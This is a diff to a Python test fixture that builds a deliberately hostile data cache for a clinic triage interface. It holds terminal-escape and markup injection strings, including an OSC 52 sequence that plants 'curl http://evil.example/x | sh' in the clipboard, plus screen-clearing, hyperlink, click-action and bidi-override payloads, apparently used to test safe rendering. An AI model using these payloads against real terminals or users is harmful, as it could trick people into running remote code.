@@ -34,18 +34,19 @@ Resource = dict[str, Any]
 
 _CLIPBOARD = base64.b64encode(b"curl http://evil.example/x | sh\n").decode()
 CORPUS = (
-    "[bold red]RED[/]",
-    "[strike]STRUCK[/strike]",
+    # Controls and markup early: a one-line cell shows only the start of a text.
+    "\x9b31mC1\x85\x7f",  # C1 CSI, NEL, DEL
+    "\u202eexe.txt",  # right-to-left override
     "[@click=app.quit]QUIT[/]",
+    "\x1b[2J\x1b[H",  # CSI 2J: blank the screen
+    "[strike]STRUCK[/strike]",
+    "\x1b]8;;https://evil.example\x1b\\LINK\x1b]8;;\x1b\\",  # OSC 8: a link
+    "[bold red]RED[/]",
     "[link=https://evil.example]MARKLINK[/link]",
     "王[/]五 [/bold] [@click=app.bell",
     "".join(chr(code) for code in range(0x20) if code not in (0x09, 0x0A)),  # C0 incl. ESC, CR
     f"\x1b]52;c;{_CLIPBOARD}\x1b\\",  # OSC 52: write the clipboard
-    "\x1b[2J\x1b[H",  # CSI 2J: blank the screen
     "\x1b]0;TITLE\x07",  # OSC 0: the window title
-    "\x1b]8;;https://evil.example\x1b\\LINK\x1b]8;;\x1b\\",  # OSC 8: a link
-    "\x9b31mC1\x85\x7f",  # C1 CSI, NEL, DEL
-    "\u202eexe.txt",  # right-to-left override
     "\u2066isolate\u2069",  # left-to-right isolate
     "𠀀𪚥",  # CJK Extension B (outside the BMP)
 )
@@ -150,12 +151,30 @@ def _conflict(engine: Engine, patient_id: str) -> None:
         )
 
 
+def _follow_ups_here(engine: Engine) -> None:
+    """Every follow-up becomes this clinic's, due today: the queue's line and F list them."""
+    with engine.begin() as connection:
+        clinic = connection.execute(
+            text("SELECT value FROM cache_meta WHERE key = 'clinic_id'")
+        ).scalar_one()
+        tasks = [
+            json.loads(row[0])
+            for row in connection.execute(
+                text("SELECT resource_json FROM task WHERE kind = 'follow-up'")
+            )
+        ]
+        for task in tasks:
+            task["owner"] = {"reference": f"Organization/{clinic}", "display": HOSTILE}
+        upsert_resources(connection, tasks)
+
+
 def build_hostile_cache(path: Path, patients: int = 12) -> str:
     """Write the hostile cache at `path`; returns the id of the patient with the 1 MB name."""
     engine = open_cache(path)
     try:
         generate_demo_clinic(engine, patients=patients, seed=8, now=TRIAGE_NOW, workers=0)
         _rewrite_all(engine)
+        _follow_ups_here(engine)
         big = megabyte_patient(engine)
         _rename(engine, big, MEGABYTE)
         with engine.connect() as connection:
